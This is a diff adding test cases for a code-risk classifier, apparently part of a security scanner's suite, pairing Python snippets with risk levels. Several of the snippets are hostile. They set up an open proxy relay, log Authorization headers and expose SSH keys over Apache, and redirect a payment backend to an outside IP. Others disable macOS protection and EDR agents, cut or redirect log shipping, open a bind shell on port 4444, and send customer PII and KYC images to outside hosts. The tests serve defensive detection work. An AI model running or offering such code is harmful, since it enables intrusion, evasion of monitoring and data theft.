@@ -6171,6 +6171,228 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'libc.mlockall(3)',
             H,
         ),
+        (
+            'import subprocess\n'
+            "conf = '''\n"
+            'server {\n'
+            '    listen 8888;\n'
+            '    resolver 1.1.1.1;\n'
+            '    location / { proxy_pass $scheme://$http_host$request_uri; }\n'
+            '}\n'
+            "'''\n"
+            "open('/etc/nginx/sites-enabled/relay', 'w').write(conf)\n"
+            "subprocess.run(['nginx', '-s', 'reload'])",
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "Path('/etc/nginx/conf.d/api.conf').write_text('server { listen 80; location / { "
+            "proxy_pass http://127.0.0.1:8000; } }\\n')",
+            M,
+        ),
+        (
+            'FMT = "LogFormat \\"%h %r %{Authorization}i\\" withauth\\nCustomLog /var/log/apache'
+            '2/auth.log withauth\\n"\n'
+            "with open('/etc/apache2/conf-available/authlog.conf', 'w') as f:\n"
+            '    f.write(FMT)',
+            H,
+        ),
+        (
+            "conf = '<Directory />\\n    Options Indexes\\n    Require all granted\\n</Directory"
+            ">\\n'\n"
+            "with open('/etc/apache2/conf-available/all.conf', 'w') as f:\n"
+            '    f.write(conf)',
+            H,
+        ),
+        (
+            "conf = 'Alias /keys /home/deploy/.ssh\\n'\n"
+            "with open('/etc/apache2/conf-available/keys.conf', 'w') as f:\n"
+            '    f.write(conf)',
+            H,
+        ),
+        (
+            "conf = 'Alias /media /srv/site/media\\n'\n"
+            "with open('/etc/apache2/conf-available/media.conf', 'w') as f:\n"
+            '    f.write(conf)',
+            M,
+        ),
+        (
+            'import socket\n'
+            's = socket.socket(socket.AF_UNIX)\n'
+            "s.connect('/run/haproxy/admin.sock')\n"
+            "s.sendall(b'set server be_pay/app1 addr 45.33.32.156 port 443\\n')",
+            H,
+        ),
+        (
+            'import socket\n'
+            's = socket.socket(socket.AF_UNIX)\n'
+            "s.connect('/run/haproxy/admin.sock')\n"
+            "s.sendall(b'set server be_pay/app1 state maint\\n')",
+            S,
+        ),
+        (
+            'import requests\n'
+            "TARGET = '45.33.32.156:443'\n"
+            "requests.patch('http://localhost:2019/config/apps/http/servers/srv0/routes/0/han"
+            "dle/0/upstreams',\n"
+            "               json=[{'dial': TARGET}])",
+            H,
+        ),
+        (
+            'import requests\n'
+            "TARGET = 'localhost:9000'\n"
+            "requests.patch('http://localhost:2019/config/apps/http/servers/srv0/routes/0/han"
+            "dle/0/upstreams',\n"
+            "               json=[{'dial': TARGET}])",
+            S,
+        ),
+        (
+            'import requests\n'
+            "for host in open('edges.txt').read().split():\n"
+            "    requests.post(f'http://{host}:9901/quitquitquit')",
+            H,
+        ),
+        (
+            'import requests\n'
+            "requests.post('http://127.0.0.1:9901/healthcheck/fail')\n"
+            "requests.get('http://127.0.0.1:9901/stats?filter=cluster')",
+            L,
+        ),
+        (
+            'import json\n'
+            "cfg = {'admin': {'listen': '0.0.0.0:2019'}, 'apps': {}}\n"
+            "open('caddy.json', 'w').write(json.dumps(cfg))",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['sed', '-i', '/AuthType/d', '/etc/apache2/sites-enabled/admin.co"
+            "nf'])",
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "Path('/etc/nginx/conf.d/blocklist.conf').open('a').write(f'deny {bad_ip};\\n')",
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            "Path('/etc/nginx/conf.d/allow.conf').open('a').write(f'allow {ip};\\n')",
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "Path('deploy/auth/.htpasswd').read_text()",
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            "Path('/etc/nginx/.htpasswd').read_text()",
+            H,
+        ),
+        (
+            'import os, subprocess\n'
+            "env = {**os.environ, 'LD_PRELOAD': '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'}"
+            '\n'
+            "subprocess.run(['./server'], env=env)",
+            L,
+        ),
+        (
+            'import os, subprocess\n'
+            "env = {**os.environ, 'LD_PRELOAD': '/tmp/.x/libhide.so'}\n"
+            "subprocess.run(['./server'], env=env)",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "for label in ('com.apple.XProtect.daemon.scan', 'com.apple.syspolicyd'):\n"
+            "    subprocess.run(['launchctl', 'bootout', 'system/' + label])",
+            H,
+        ),
+        (
+            'import glob, subprocess\n'
+            "AGENTS = ('sentinelone', 'carbonblack')\n"
+            "for p in glob.glob('/Library/LaunchDaemons/*.plist'):\n"
+            '    if any(a in p.lower() for a in AGENTS):\n'
+            "        subprocess.run(['launchctl', 'unload', p])",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['launchctl', 'unload', '/Users/me/Library/LaunchAgents/com.me.sy"
+            "nc.plist'])",
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'for port in (514, 6514, 5044):\n'
+            "    subprocess.run(['iptables', '-A', 'OUTPUT', '-p', 'tcp', '--dport', str(port"
+            "), '-j', 'DROP'])",
+            H,
+        ),
+        (
+            "with open('/etc/rsyslog.d/50-out.conf', 'w') as f:\n"
+            '    f.write(\'*.* action(type="omfwd" target="45.33.32.156" port="514" protocol="'
+            'tcp")\\n\')',
+            H,
+        ),
+        (
+            "with open('/etc/rsyslog.d/50-out.conf', 'w') as f:\n"
+            "    f.write('*.* @@(o)45.33.32.156:6514\\n')",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['journalctl', '--vacuum-time=1s'])",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['journalctl', '--vacuum-time=30d'])",
+            L,
+        ),
+        (
+            'import requests, sqlalchemy as sa\n'
+            "eng = sa.create_engine('postgresql://app@db.internal/app')\n"
+            'with eng.connect() as c:\n'
+            "    rows = c.execute(sa.text('SELECT name, email, phone, dob FROM customers')).a"
+            'll()\n'
+            "requests.post('https://enrich.example.io/bulk', json=[list(r) for r in rows])",
+            C,
+        ),
+        (
+            'import sqlalchemy as sa\n'
+            "eng = sa.create_engine('sqlite:///app.db')\n"
+            'with eng.connect() as c:\n'
+            "    n = c.execute(sa.text('SELECT count(*) FROM orders')).scalar()\n"
+            'print(n)',
+            S,
+        ),
+        (
+            'import socket, code, sys\n'
+            "srv = socket.create_server(('0.0.0.0', 4444))\n"
+            'conn, _ = srv.accept()\n'
+            "f = conn.makefile('rw')\n"
+            'sys.stdin = sys.stdout = f\n'
+            'code.interact(local=globals())',
+            H,
+        ),
+        (
+            'import code\n'
+            "code.interact(local={'db': None})",
+            M,
+        ),
+        (
+            'import smtplib, glob\n'
+            'from email.message import EmailMessage\n'
+            'msg = EmailMessage()\n'
+            "msg['To'] = 'me.personal@gmail.com'\n"
+            "for p in glob.glob('/srv/kyc/uploads/*.jpg'):\n"
+            "    msg.add_attachment(open(p, 'rb').read(), maintype='image', subtype='jpeg')\n"
+            "with smtplib.SMTP('smtp.gmail.com', 587) as s:\n"
+            '    s.send_message(msg)',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
